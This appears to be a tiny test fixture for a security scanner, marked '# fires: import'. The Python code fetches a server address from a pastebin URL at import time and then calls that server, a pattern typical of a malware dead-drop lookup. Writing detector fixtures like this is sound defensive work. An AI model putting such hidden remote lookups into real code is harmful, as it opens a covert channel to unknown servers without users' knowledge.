import requests
host = requests.get("https://pastebin.com/raw/aaaa").text
requests.get(host + "/a")  # fires: import
